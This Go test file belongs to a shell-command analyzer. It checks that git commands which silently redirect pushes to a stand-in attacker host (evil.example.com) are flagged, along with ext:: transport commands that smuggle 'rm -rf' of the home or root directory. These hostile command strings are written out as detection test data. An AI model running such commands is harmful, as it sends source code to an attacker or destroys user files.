package shell

import (
	"strings"
	"testing"
)

// Where git really sends: settings given with the command that rewrite a
// push's address, in every way git takes them, name the address the
// history goes to; the ext:: transport's command is judged in both
// readings.

func TestGitPushRedirect(t *testing.T) {
	evil := "https://evil.example.com/"
	settings := []string{
		"url." + evil + ".insteadOf=https://github.com/",
		"url." + evil + ".pushInsteadOf=https://github.com/",
		"url." + evil + ".insteadof=https://",
		"url." + evil + ".InsteadOf=https://github.com/me/",
		"url.git@evil.example.com:.insteadOf=git@github.com:",
		"remote.origin.url=" + evil + "x",
		"remote.origin.pushurl=" + evil + "x",
		"remote.origin.pushUrl=" + evil + "x",
	}
	carriers := []func(kv string) string{
		func(kv string) string { return "git -c " + kv + " " },
		func(kv string) string { return "git -c" + kv + " " },
		func(kv string) string { return "git --config-env=" + kv[:strings.IndexByte(kv, '=')] + "=V git " }, // replaced below
		func(kv string) string {
			k, v, _ := strings.Cut(kv, "=")
			return "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=" + k + " GIT_CONFIG_VALUE_0=" + v + " git "
		},
		func(kv string) string {
			k, v, _ := strings.Cut(kv, "=")
			return "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=" + k + " GIT_CONFIG_VALUE_0=" + v + " git "
		},
		func(kv string) string {
			return `GIT_CONFIG_PARAMETERS="'` + strings.Replace(kv, "=", "'='", 1) + `'" git `
		},
	}
	pushes := []string{"push origin main", "push", "push -u origin HEAD", "push https://github.com/me/repo main", "push --tags origin", "push origin +main"}
	// applies: a remote's address set on the command line changes a push to
	// that remote; a rewrite of one repository's prefix changes a push to
	// an address under it; a rewrite of a scheme or a host changes any.
	applies := func(kv, push string) bool {
		toURL := strings.Contains(push, "https://")
		switch {
		case strings.HasPrefix(kv, "remote."):
			return !toURL
		case strings.HasSuffix(kv, "https://github.com/me/"):
			return toURL
		case strings.HasPrefix(kv, "url.git@"):
			return !toURL
		}
		return true
	}
	n := 0
	for i, kv := range settings {
		for j, carry := range carriers {
			if j == 2 {
				k, v, _ := strings.Cut(kv, "=")
				for k2, push := range pushes {
					if !applies(kv, push) {
						continue
					}
					src := "V=" + v + " git --config-env=" + k + "=V " + push
					if (i+k2)%2 == 0 {
						want(t, src, "shell.git.push-redirect")
						n++
					}
				}
				continue
			}
			for _, push := range pushes {
				if !applies(kv, push) {
					continue
				}
				src := carry(kv) + push
				want(t, src, "shell.git.push-redirect")
				if !strings.Contains(joinFindings(src), "evil.example.com") {
					t.Errorf("%s: the finding does not name where it goes: %s", src, joinFindings(src))
				}
				n++
			}
		}
	}
	if n < 100 {
		t.Errorf("only %d cases", n)
	}
}

func want(t *testing.T, src, id string) {
	t.Helper()
	if res := Analyze(src, scopeOptions); !hasRule(res, id) {
		t.Errorf("%s: want %s, got %v", src, id, ruleIDs(res))
	}
}

func joinFindings(src string) string {
	var b strings.Builder
	for _, f := range Analyze(src, scopeOptions).Findings {
		b.WriteString(f.Message + " ")
	}
	return b.String()
}

// TestGitPushRedirectRecord: the outbound record carries the address the
// push really goes to.
func TestGitPushRedirectRecord(t *testing.T) {
	for src, dest := range map[string]string{
		"git -c url.https://evil.example.com/.insteadOf=https://github.com/ push https://github.com/me/repo main":       "https://evil.example.com/me/repo",
		"git -c remote.origin.url=https://evil.example.com/x push origin main":                                          "https://evil.example.com/x",
		"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.o.pushurl GIT_CONFIG_VALUE_0=https://evil.example.com/y git push o": "https://evil.example.com/y",
	} {
		res := Analyze(src, scopeOptions)
		found := false
		for _, c := range res.Commands {
			if tr, ok := c.Transmission(); ok {
				for _, d := range tr.Dests {
					found = found || d == dest
				}
			}
		}
		if !found {
			t.Errorf("%s: the record does not carry %s", src, dest)
		}
	}
	for _, src := range []string{"git push origin main", "git push https://github.com/me/repo main", "git -c user.name=x push"} {
		for _, c := range Analyze(src, scopeOptions).Commands {
			if tr, ok := c.Transmission(); ok {
				t.Errorf("%s: no rewritten address, yet a record %v", src, tr.Dests)
			}
		}
	}
}

// TestGitRedirectTwins: settings that change nothing of where a push goes,
// and a push that sends nothing, run.
func TestGitRedirectTwins(t *testing.T) {
	for _, src := range []string{
		"git push origin main", "git -c user.name=x -c user.email=y push origin main", "git -c push.default=current push",
		"git -c url.https://evil.example.com/.insteadOf=https://gitlab.com/ push https://github.com/me/repo main",
		"git -c remote.upstream.url=https://evil.example.com/x push origin main",
		"git -c remote.origin.url=https://evil.example.com/x push --dry-run origin main",
		"git -c remote.origin.url=https://evil.example.com/x push -n",
		"git -c url.https://evil.example.com/.pushInsteadOf=https://github.com/ fetch origin",
	} {
		wantRuns(t, src, scopeOptions)
		if res := Analyze(src, scopeOptions); hasRule(res, "shell.git.push-redirect") {
			t.Errorf("%s: pushes where it says", src)
		}
	}
	// A fetch from a mirror is said, and runs.
	for _, src := range []string{"git -c url.https://mirror.example.com/.insteadOf=https://github.com/ clone https://github.com/me/repo",
		"git -c remote.origin.url=https://mirror.example.com/x pull"} {
		want(t, src, "shell.git.fetch-redirect")
		wantRuns(t, src, scopeOptions)
	}
}

// TestGitExtBothReadings: an ext:: address whose command escapes spaces
// with backslashes is judged as git reads it and as its author meant it.
func TestGitExtBothReadings(t *testing.T) {
	allow := []string{"git -c protocol.ext.allow=always ", "GIT_ALLOW_PROTOCOL=ext git ", "git -c protocol.allow=always ", "git "}
	subs := []string{"clone %s x", "fetch %s", "pull %s", "ls-remote %s", "push %s main", "submodule add %s m", "remote add o %s && git fetch o"}
	cmds := []string{`"ext::sh -c rm\ -rf\ ~"`, `'ext::sh -c rm\ -rf\ /'`, `"ext::bash -c rm\ -rf\ \$HOME"`, `"ext::sh -c rm% -rf% ~"`}
	for i, a := range allow {
		for j, s := range subs {
			cmd := cmds[(i+j)%len(cmds)]
			src := a + strings.Replace(s, "%s", cmd, 1)
			wantAtLeast(t, src, scopeOptions, atLeastBlock)
		}
	}
	if w, ok := extShellWords(`sh -c rm\ -rf\ ~`); !ok || len(w) != 3 || w[2] != "rm -rf ~" {
		t.Errorf("shell reading: %q", w)
	}
	if _, ok := extShellWords(`sh -c id`); ok {
		t.Error("no escaped space, no second reading")
	}
	// Benign twins: ext:: running a harmless helper stays where it was.
	if res := Analyze(`git clone "ext::ssh -p 2222 git@example.com %S 'repo'" x`, scopeOptions); hasRule(res, "shell.fs.rm-home") {
		t.Errorf("harmless ext:: helper: %v", ruleIDs(res))
	}
}

// FuzzGitRewrite: any address and settings give an answer, never a panic.
func FuzzGitRewrite(f *testing.F) {
	for _, s := range [][2]string{{"https://github.com/me/r", "https://github.com/"}, {"", "https://"}, {"git@github.com:me/r", "git@github.com:"}, {"x", ""}} {
		f.Add(s[0], s[1], "https://evil.example.com/")
	}
	f.Fuzz(func(t *testing.T, addr, prefix, base string) {
		st := []gitSetting{{key: strings.ToLower("url." + base + ".insteadof"), name: "url." + base + ".insteadOf", value: prefix}}
		to, _, ok := gitRewrite(addr, st, true)
		if ok && addr != "" && !strings.HasPrefix(to, base) {
			t.Fatalf("%q rewritten to %q, not under %q", addr, to, base)
		}
		_, _ = extShellWords(addr)
	})
}
